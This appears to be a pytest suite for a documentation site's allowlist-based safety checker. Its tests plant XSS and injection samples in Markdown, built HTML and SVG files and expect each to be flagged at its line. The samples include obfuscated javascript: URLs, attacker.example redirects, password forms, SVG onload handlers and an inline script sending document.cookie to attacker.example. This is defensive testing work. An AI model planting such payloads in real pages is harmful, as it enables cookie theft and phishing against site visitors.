"""Content safety by allowlist (data/policy/allowlist.yml): each attack a stranger's pull request could plant
in a page, in the Markdown or in the built site, is a finding that names the file and the line."""

from __future__ import annotations

from pathlib import Path

import nh3
import pytest
from conftest import replace_once

from scripts.checks import safety, site_safety
from scripts.core.policy import for_root, load

ALLOWLIST = "not on the content allowlist (data/policy/allowlist.yml)"


def plant(project: Path, snippet: str, page: str = "part1.md") -> int:
    """Append `snippet` to the first speaker line of an English page; the line's number."""
    path = project / "docs" / "en" / page
    lines = path.read_text(encoding="utf-8").split("\n")
    target = next(i for i, line in enumerate(lines) if line.startswith("**Reporter:**"))
    lines[target] += " " + snippet
    path.write_text("\n".join(lines), encoding="utf-8")
    return target + 1


def markdown_findings(project: Path) -> list[str]:
    return [str(f) for f in safety.check_markdown(project / "docs", for_root(project))]


@pytest.mark.parametrize(
    "snippet, message",
    [
        ('<base href="https://attacker.example/">', "raw <base>"),
        ('<meta http-equiv="refresh" content="0;url=https://attacker.example/">', "raw <meta>"),
        ('<form action="https://attacker.example/"><input type="password"></form>', "raw <form>"),
        ('<span style="position:fixed;inset:0">x</span>', "raw style= on <span>"),
        ('<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>', "raw <iframe>"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "raw javascript: URL in href= on <a>"),
        ('<a href="java&#x09;script:alert(1)">x</a>', "raw javascript: URL in href= on <a>"),
        ("[x](JaVaScRiPt:alert(1))", "javascript: URL in a link"),
        ("[x](vbscript:msgbox)", "vbscript: URL in a link"),
        ("<javascript:alert(1)>", "javascript: URL in an autolink"),
        ('<div class="mermaid">graph TD</div>', 'raw class "mermaid" on <div>'),
        ('<span id="__config">x</span>', 'raw id="__config" on <span>'),
        ('<a data-md-component="search" href="#x">x</a>', "raw data-md-component= on <a>"),
        ('<img src="x.svg" alt="" name="getElementById">', "raw name= on <img>"),
        ('<a href="https://example.org/" target="_blank">x</a>', "raw target= on <a>"),
        ('<svg><use href="https://attacker.example/x.svg#a"/></svg>', "raw <use>"),
        ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "raw <math>"),
        ('<span lang="fr">x</span>', 'raw lang="fr" on <span>'),
        ('text{ onclick="x()" }', "onclick= handler on an element (attribute list)"),
        ("text{ .md-dialog }", 'class "md-dialog" on an element (attribute list)'),
        ("text{ #__search }", 'id="__search" on an element (attribute list)'),
        ("<!DOCTYPE html>", "raw <!DOCTYPE> declaration"),
    ],
)
def test_markup_off_the_content_allowlist_in_markdown_is_caught_at_its_line(
    project_copy: Path, snippet: str, message: str
) -> None:
    line = plant(project_copy, snippet)
    findings = markdown_findings(project_copy)
    assert f"docs/en/part1.md:{line}: [safety] {message}: {ALLOWLIST}" in findings, findings
    assert all(f.startswith(f"docs/en/part1.md:{line}: [safety] ") for f in findings), findings


def test_a_link_definition_with_a_script_url_is_caught(project_copy: Path) -> None:
    page = project_copy / "docs" / "en" / "part1.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n[home]: javascript:alert(1)\n", encoding="utf-8")
    line = page.read_text(encoding="utf-8").split("\n").index("[home]: javascript:alert(1)") + 1
    assert markdown_findings(project_copy) == [
        f"docs/en/part1.md:{line}: [safety] javascript: URL in a link definition: {ALLOWLIST}"
    ]


def test_markup_in_a_code_span_is_text_not_a_finding(project_copy: Path) -> None:
    plant(project_copy, "the tag `<script>` in a code span")
    assert markdown_findings(project_copy) == []


@pytest.mark.parametrize(
    "char, name",
    [("\u202e", "RIGHT-TO-LEFT OVERRIDE"), ("\u200b", "ZERO WIDTH SPACE"), ("\x1b", "a control character")],
)
def test_an_invisible_character_in_a_page_is_caught_at_its_line_and_column(
    project_copy: Path, char: str, name: str
) -> None:
    line = plant(project_copy, f"65{char}5")
    findings = markdown_findings(project_copy)
    assert len(findings) == 1 and findings[0].startswith(f"docs/en/part1.md:{line}: [safety] ")
    assert f"invisible character U+{ord(char):04X} ({name}) at column" in findings[0]


def test_an_invisible_character_in_the_data_is_caught(project_copy: Path) -> None:
    path = project_copy / "data" / "glossary.yml"
    replace_once(path, "en: Lu Feng,", "en: Lu \u202eFeng,")
    line = next(n for n, text in enumerate(path.read_text(encoding="utf-8").split("\n"), 1) if "\u202e" in text)
    findings = markdown_findings(project_copy)
    assert len(findings) == 1 and findings[0].startswith(
        f"data/glossary.yml:{line}: [safety] invisible character U+202E"
    )


def test_a_file_of_another_kind_under_docs_is_caught(project_copy: Path) -> None:
    (project_copy / "docs" / "en" / "evil.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    findings = markdown_findings(project_copy)
    assert len(findings) == 1 and findings[0].startswith(
        "docs/en/evil.html:1: [safety] a .html file: docs/ may hold only .md"
    )


# --- the built site ---------------------------------------------------------------------------------


def inject(site: Path, page: str, anchor: str, snippet: str) -> int:
    """Put `snippet` before the first `anchor` of a built page; the line it is on."""
    path = site / page
    replace_once(path, anchor, snippet + anchor)
    text = path.read_text(encoding="utf-8")
    return text[: text.index(snippet)].count("\n") + 1


def site_findings(site: Path) -> list[str]:
    return [str(f) for f in safety.check_html(site)]


@pytest.mark.parametrize(
    "snippet, message",
    [
        ('<form action="https://attacker.example/"><input type="password" name="pw"></form>', "<form>"),
        ('<p style="position:fixed;inset:0">x</p>', "style= on <p>"),
        ('<div class="mermaid">graph TD</div>', 'class "mermaid" on <div>'),
        ('<a id="__config" href="#x">x</a>', 'id="__config" on <a>'),
        ('<iframe src="https://attacker.example/"></iframe>', "<iframe>"),
        ('<a href=" javascript:alert(1)">x</a>', "javascript: URL in href= on <a>"),
        ('<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" alt="">', "data: URL in src= on <img>"),
    ],
)
def test_content_off_the_allowlist_in_a_built_page_is_caught(site_copy: Path, snippet: str, message: str) -> None:
    line = inject(site_copy, "en/part1/index.html", '<p id="part1-a1-p2">', snippet)
    assert f"en/part1/index.html:{line}: [safety] {message} in the page content: {ALLOWLIST}" in site_findings(
        site_copy
    )


@pytest.mark.parametrize(
    "anchor, snippet, message",
    [
        ("</head>", '<base href="https://attacker.example/">', "<base>"),
        ("</head>", '<meta http-equiv="refresh" content="0;url=https://attacker.example/">', "http-equiv= on <meta>"),
        ("</head>", "<script>fetch('https://attacker.example/?'+document.cookie)</script>", "inline <script> 'fetch("),
        ("</body>", '<script src="../../assets/evil.js"></script>', '<script src="../../assets/evil.js">'),
        (
            "</body>",
            '<script src="https://attacker.example/x.js"></script>',
            '<script src="https://attacker.example/x.js">',
        ),
        (
            "</body>",
            '<script type="application/json" id="__evil">{}</script>',
            '<script type="application/json" id="__evil">',
        ),
        ("</body>", '<form action="https://attacker.example/" name="search"></form>', "action= on <form>"),
        ("</body>", '<div style="display:none">x</div>', "style= on <div>"),
    ],
)
def test_chrome_off_the_page_allowlist_in_a_built_page_is_caught(
    site_copy: Path, anchor: str, snippet: str, message: str
) -> None:
    line = inject(site_copy, "en/part1/index.html", anchor, snippet)
    findings = [f for f in site_findings(site_copy) if f.startswith(f"en/part1/index.html:{line}: [safety] {message}")]
    assert findings and all(
        "in the page outside its content: not on the page allowlist (data/policy/allowlist.yml)" in f for f in findings
    ), site_findings(site_copy)


@pytest.mark.parametrize(
    "old, new, message",
    [
        ("</svg>", "<script>alert(1)</script></svg>", "<script> in an SVG file"),
        ("</svg>", "<foreignObject><p>x</p></foreignObject></svg>", "<foreignobject> in an SVG file"),
        ("</svg>", '<a href="javascript:alert(1)"><text>x</text></a></svg>', "<a> in an SVG file"),
        ('<rect width="100%"', '<rect onload="alert(1)" width="100%"', "onload= handler on <rect> in an SVG file"),
        (
            "</svg>",
            '<rect fill="url(https://attacker.example/p.svg#g)" width="1" height="1"/></svg>',
            'fill="url(https://attacker',
        ),
        (
            "</svg>",
            "<style>@import url(https://attacker.example/a.css);</style></svg>",
            "CSS that loads https://attacker.example/a.css",
        ),
        (
            '<?xml version="1.0" encoding="UTF-8"?>',
            '<?xml version="1.0"?><?xml-stylesheet href="https://attacker.example/x.xsl"?>',
            "<?xml-stylesheet?>",
        ),
    ],
)
def test_active_content_in_an_svg_file_of_the_site_is_caught(site_copy: Path, old: str, new: str, message: str) -> None:
    chart = next(p for p in sorted((site_copy / "en" / "charts").glob("*.svg")) if old in p.read_text(encoding="utf-8"))
    replace_once(chart, old, new)
    key = chart.relative_to(site_copy).as_posix()
    findings = [f for f in site_findings(site_copy) if f.startswith(f"{key}:")]
    assert any(message in f and "not on the svg allowlist" in f for f in findings), findings


def test_an_svg_file_with_a_doctype_is_caught(site_copy: Path) -> None:
    chart = next(iter(sorted((site_copy / "en" / "charts").glob("*.svg"))))
    text = chart.read_text(encoding="utf-8")
    chart.write_text(text.replace("?>", '?>\n<!DOCTYPE svg [<!ENTITY x "y">]>', 1), encoding="utf-8")
    key = chart.relative_to(site_copy).as_posix()
    assert (
        f"{key}:1: [safety] a DOCTYPE (entities) in an SVG file: not on the svg allowlist (data/policy/allowlist.yml)"
        in site_findings(site_copy)
    )


def test_a_page_of_another_kind_in_the_site_is_caught(site_copy: Path) -> None:
    (site_copy / "en" / "evil.xhtml").write_text("<html><script>alert(1)</script></html>", encoding="utf-8")
    assert (
        "en/evil.xhtml:1: [safety] a .xhtml file: not a kind of file the site may hold "
        "(files.site of data/policy/allowlist.yml)" in site_findings(site_copy)
    )


def test_a_material_upgrade_that_changes_an_inline_script_is_told_with_its_new_digest(site_copy: Path) -> None:
    path = site_copy / "en" / "part1" / "index.html"
    replace_once(path, "__md_scope=new URL(", "__md_scope=window.evil||new URL(")
    findings = site_findings(site_copy)
    assert any("inline <script> '__md_scope=window.evil" in f and "(digest " in f for f in findings), findings


# --- the allowlist itself ------------------------------------------------------------------------------


def test_the_content_allowlist_keeps_to_ammonias_lists_but_for_the_svg_and_picture_it_names() -> None:
    policy = load()
    beyond = set(policy.content.elements) - set(nh3.ALLOWED_TAGS)
    assert beyond == {"svg", "path", "picture", "source"}
    assert all("not on Ammonia's list" in policy.content.elements[e] for e in beyond)
    assert set(policy.content.url_schemes) <= set(nh3.ALLOWED_URL_SCHEMES)
    assert not {"script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "link"} & set(
        policy.content.elements
    )


def ammonia(html: str) -> str:
    """A fragment as Ammonia (nh3) leaves it, given the content allowlist's elements, attributes and schemes."""
    content = load().content
    return nh3.clean(
        html,
        tags=set(content.elements),
        attributes={el: set(attrs) for el, attrs in content.attributes.items()},
        url_schemes=set(content.url_schemes),
        link_rel=None,
        strip_comments=False,
    )


@pytest.mark.parametrize(
    "html",
    [
        '<base href="https://attacker.example/">',
        '<form action="https://attacker.example/">x</form>',
        '<span style="color:red">x</span>',
        '<span onclick="x()">x</span>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="https://example.org/" target="_blank">x</a>',
    ],
)
def test_ammonia_given_the_content_allowlist_removes_what_the_check_reports(project_copy: Path, html: str) -> None:
    assert ammonia(html) != html
    line = plant(project_copy, html)
    assert any(f.startswith(f"docs/en/part1.md:{line}: [safety] raw ") for f in markdown_findings(project_copy))


@pytest.mark.parametrize(
    "html", ['<span lang="zh">中文</span>', '<a href="../part1/#part1-a1-p1" title="part1-a1-p1">text</a>']
)
def test_ammonia_given_the_content_allowlist_keeps_what_the_check_allows(project_copy: Path, html: str) -> None:
    assert ammonia(html) == html
    plant(project_copy, html)
    assert markdown_findings(project_copy) == []


def test_the_real_pages_and_site_pass_the_allowlists(built_site: Path) -> None:
    assert safety.check_markdown() == []
    assert safety.check_html(built_site) == []


def test_the_bundle_of_a_site_served_below_a_path_is_its_own_file_and_no_other_path_is() -> None:
    """The 404 page of a deployment under /interview/ loads Material's bundle by its absolute URL."""
    page = '<html><body><script src="/interview/assets/javascripts/bundle.0123abcd.min.js"></script></body></html>'
    assert site_safety.check_page("404.html", page, load(), "interview/") == []
    assert [f.message for f in site_safety.check_page("404.html", page, load(), "elsewhere/")] == [
        '<script src="/interview/assets/javascripts/bundle.0123abcd.min.js"> (a file not on page.scripts.files or '
        "build.extra_javascript) in the page outside its content: not on the page allowlist (data/policy/allowlist.yml)"
    ]
